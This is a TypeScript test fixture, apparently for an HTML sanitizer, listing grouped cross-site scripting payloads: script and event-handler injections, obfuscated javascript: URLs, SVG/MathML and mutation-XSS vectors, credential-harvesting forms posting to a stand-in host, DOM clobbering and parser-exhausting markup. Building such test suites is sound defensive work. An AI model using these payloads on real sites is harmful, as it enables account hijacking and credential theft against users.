/** What every payload would set, did it run; `elsewhere.example` is whom it would tell. */
const RUN = 'window.__ran=1;alert(1)';
const TOLD = 'https://elsewhere.example/told';

/** Show notes that want more than to be read, by what they try. Each ends with, or holds, the words "still here". */
export const hostileNotes: Readonly<Record<string, readonly string[]>> = {
  'scripts and event handlers': [
    `<script>${RUN}</script><script src="${TOLD}.js"></script><p>still here</p>`,
    `<img src=x onerror="${RUN}"><p onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>still here</p>`,
    `<body onload="${RUN}"><details open ontoggle="${RUN}"><summary>still here</summary></details>`,
    `<video src=x onerror="${RUN}" autoplay></video><audio src="${TOLD}.mp3" autoplay onplay="${RUN}"></audio><p>still here</p>`,
    `<marquee onstart="${RUN}">still here</marquee>`,
  ],
  'addresses that run': [
    `<a href="javascript:${RUN}">still here</a>`,
    `<a href=" \u0001java\tscript:${RUN}">still here</a>`,
    `<a href="JaVaScRiPt&colon;${RUN}">still here</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">still here</a>`,
    `<a href="vbscript:x">still here</a><a href="blob:${TOLD}">and here</a><a href="file:///etc/passwd">and there</a>`,
    `<a href="https://example.com/" onclick="${RUN}" target=_self style="position:fixed;inset:0" ping="${TOLD}">still here</a>`,
  ],
  'SVG and MathML': [
    `<svg onload="${RUN}"><script>${RUN}</script><a href="javascript:${RUN}"><text>x</text></a><image href="${TOLD}.png"/></svg><p>still here</p>`,
    `<svg><animate onbegin="${RUN}" attributeName=x dur=1s /><use href="${TOLD}.svg#a"/></svg><p>still here</p>`,
    `<math><mtext><a href="javascript:${RUN}">x</a></mtext><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math><p>still here</p>`,
  ],
  'markup that changes when it is read again': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math><p>still here</p>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg><p>still here</p>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=${RUN}></style></mglyph></form></mtext></math><p>still here</p>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><p>still here</p>`,
    `<p>still here</p><listing>&lt;img src=1 onerror=${RUN}&gt;</listing><xmp><img src=1 onerror=${RUN}></xmp>`,
    `<p>still here &lt;img src=x onerror=${RUN}&gt;</p><template><img src=x onerror=${RUN}></template>`,
  ],
  'what takes the page over': [
    `<style>body{display:none!important}@import "${TOLD}.css";</style><p style="position:fixed;inset:0;background:url(${TOLD}.png)">still here</p>`,
    `<form action="${TOLD}"><input name=password autofocus><button formaction="${TOLD}">still here</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${TOLD}"><base href="${TOLD}/"><link rel=stylesheet href="${TOLD}.css"><a href="relative">still here</a>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><object data="${TOLD}"></object><embed src="${TOLD}"><p>still here</p>`,
    `<p id="root" class="mantine-Modal-root" name="cookie">still here</p><img name=body id=location>`,
    `<dialog open>still here</dialog><div popover id=p>and here</div><button popovertarget=p>and there</button>`,
  ],
  'broken and endless markup': [
    `<p>still here${'<div><blockquote><ul><li>'.repeat(1_000)}`,
    `<p>still here</p>${'<b>'.repeat(1_000)}deep${'</i>'.repeat(500)}`,
    `<p>still here <a href="https://example.com/<b><i"><p></a></b></p></li></table><tr><td></select>`,
    `<p>still here</p><!-- never closed <script>${RUN}</script>`,
    `<p>still here</p><pre>${'wide'.repeat(5_000)}</pre><p>${'x'.repeat(200_000)}</p>`,
    `<p>still here ${'a\u0300'.repeat(10)}${'\u0336\u0489'.repeat(500)}\u202Egnp.exe\u0000</p>`,
  ],
};
